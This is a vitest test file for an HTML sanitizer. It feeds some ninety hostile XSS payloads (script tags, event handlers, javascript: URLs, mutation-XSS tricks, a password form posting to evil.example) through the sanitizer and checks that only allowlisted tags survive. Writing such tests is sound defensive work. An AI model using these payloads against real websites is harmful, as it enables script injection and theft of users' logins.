import { describe, expect, test } from 'vitest'
import { sanitize } from './sanitize.ts'

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="http://a.example/x.png">',
  '<img src="//evil.example/x.png">',
  '<img src="/wps/session/logout">',
  '<img srcset="https://a.example/x.png 1x, javascript:alert(1) 2x">',
  '<img/src/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="https://user:pass@evil.example/">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="filesystem:https://a.example/1">x</a>',
  '<a href="https://a.example/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://a.example/" target="_top" rel="opener">x</a>',
  '<a href="https://a.example/" ping="https://evil.example">x</a>',
  '<a href="https://a.example/" download>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x.class"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</p>',
  '<p class="modal" id="root">x</p>',
  '<p onmouseover="alert(1)" onfocus=alert(1) tabindex=1 autofocus>x</p>',
  '<p contenteditable onbeforeinput=alert(1)>x</p>',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html><head><script>alert(1)</script></head></html>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<td colspan="99999" rowspan="x" onclick=alert(1)>x</td>',
  '<x-evil onclick=alert(1)>x</x-evil>',
  '<div><custom is="x-y" onconnected=alert(1)>x</custom></div>',
  '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<img alt="&quot;><script>alert(1)</script>" src="https://a.example/x.png">',
  '<img src="https://a.example/x.png" width="1" height="1);alert(1)">',
  '"><script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<b><i><b><i>'.repeat(200),
  '<a href="#"><a href="javascript:alert(1)">x',
  '{{constructor.constructor("alert(1)")()}}<p ng-app v-html="x">y</p>',
]

const tagNames =
  'h2|h3|h4|p|br|hr|blockquote|ul|ol|li|dl|dt|dd|b|strong|i|em|u|s|small|sub|sup|code|a|img|table|caption|thead|tbody|tfoot|tr|th|td'
const attribute =
  ' (?:rel="noopener noreferrer nofollow"|target="_blank"|loading="lazy"|alt="[^"<>]*"|scope="(?:row|col)"|(?:width|height|colspan|rowspan|start)="\\d{1,4}"|href="(?:#[\\w-]*|/(?![/\\\\])[^\\s"<>\\\\]*|https://[A-Za-z0-9][^\\s"<>\\\\]*|mailto:[^\\s"<>\\\\]+)"|src="(?:/wps/pictures/[a-z0-9]{26}|/assets/[\\w./-]+)")'
/** Nothing but text and tags of the list, written in one way: an HTML parser cannot read anything else into it. */
const harmless = new RegExp(`^(?:[^<>]|<(?:${tagNames})(?:${attribute})*(?: /)?>|</(?:${tagNames})>)*$`)

const wraps: ((payload: string) => string)[] = [
  payload => payload,
  payload => `<p>before</p>${payload}<p>after</p>`,
  payload => `<table><tr><td>${payload}</td></tr></table>`,
  payload => `<ul><li><a href="/help">${payload}</a></li></ul>`,
]

describe('W1: HTML of operators', () => {
  test(`${hostile.length * wraps.length} hostile payloads leave nothing but harmless tags, and sanitising twice is sanitising once`, () => {
    expect(hostile.length * wraps.length).toBeGreaterThanOrEqual(300)
    for (const payload of hostile) {
      for (const wrap of wraps) {
        const html = wrap(payload)
        const clean = sanitize(html)
        expect([payload, clean]).toEqual([payload, expect.stringMatching(harmless)])
        expect([payload, sanitize(clean)]).toEqual([payload, clean])
      }
    }
  })

  test('what an article needs is kept', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong> and <em>soft</em> words &amp; signs.</p><ul><li>one</li></ul>' +
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    expect(sanitize(html)).toBe(html)
  })

  test('links to other sites open apart and pass nothing on; own paths stay in the page', () => {
    expect(sanitize('<a href="https://a.example/x?y=1&z=2">x</a>')).toBe(
      '<a href="https://a.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    )
    expect(sanitize('<a href="/help" target="_blank">x</a>')).toBe(
      '<a href="/help" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(sanitize('<h1>x</h1>')).toBe('<h2>x</h2>')
  })

  test('pictures are the merchant’s own, or not at all', () => {
    expect(sanitize('<img src="/wps/pictures/01k3zq0000000000000000abcd" alt="Cup">')).toBe(
      '<img src="/wps/pictures/01k3zq0000000000000000abcd" alt="Cup" loading="lazy" />',
    )
    for (const src of [
      'https://a.example/x.png',
      '//a.example/x.png',
      'data:image/png;base64,AAAA',
      '/wps/uploads/image?id=01abc',
      '/assets/x.svg',
    ])
      expect(sanitize(`<img src="${src}" alt="x">`)).toBe('')
  })
})
